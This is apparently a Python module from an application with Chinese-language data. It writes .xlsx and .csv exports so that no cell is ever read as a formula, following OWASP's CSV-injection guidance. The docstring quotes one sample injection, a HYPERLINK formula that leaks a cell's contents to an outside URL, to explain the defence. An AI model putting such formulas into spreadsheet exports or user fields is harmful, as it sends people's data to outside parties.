"""Spreadsheets written out (.xlsx and .csv) hold data only, never formulas.

Text that came from outside — unit names from import files, a citizen's 评价内容, staff names —
may start with `=`, `+`, `-`, `@`, a tab or a carriage return; Excel and WPS read such a cell
as a formula (`=HYPERLINK("http://…?leak="&A1, "点击查看")`). Following OWASP's CSV-injection
rule every export writes through here:

- `workbook(path)`: an xlsxwriter workbook whose `write`/`write_row` store every str as a text
  cell — never a formula, a link or a number — so a title, header or sheet cell built from data
  is text too (only an explicit `write_formula` writes a formula);
- `csv_writer(stream)`: a csv writer that puts a `'` before any text cell starting with one of
  those characters, so that a spreadsheet opening the file shows the text and runs nothing;
  `csv_cells(row)` takes that quote off again when such a file is imported back (the rows an
  import refused are written out to be corrected and imported again).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path
from typing import Any, TextIO

import xlsxwriter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def workbook(path: Path | str, options: dict[str, Any] | None = None) -> xlsxwriter.Workbook:
    return xlsxwriter.Workbook(
        str(path),
        {
            **(options or {}),
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
        },
    )


def csv_text(value: Any) -> Any:
    """A CSV cell: text that a spreadsheet would run as a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_cells(cells: list[str]) -> list[str]:
    """A CSV row as written: a `'` that csv_text put before formula-like text is taken off."""
    return [c[1:] if c[:1] == "'" and c[1:2] in _STARTS else c for c in cells]


_STARTS = frozenset(FORMULA_STARTS)


class _SafeWriter:
    def __init__(self, stream: TextIO, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_text(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, **options: Any) -> _SafeWriter:
    return _SafeWriter(stream, **options)
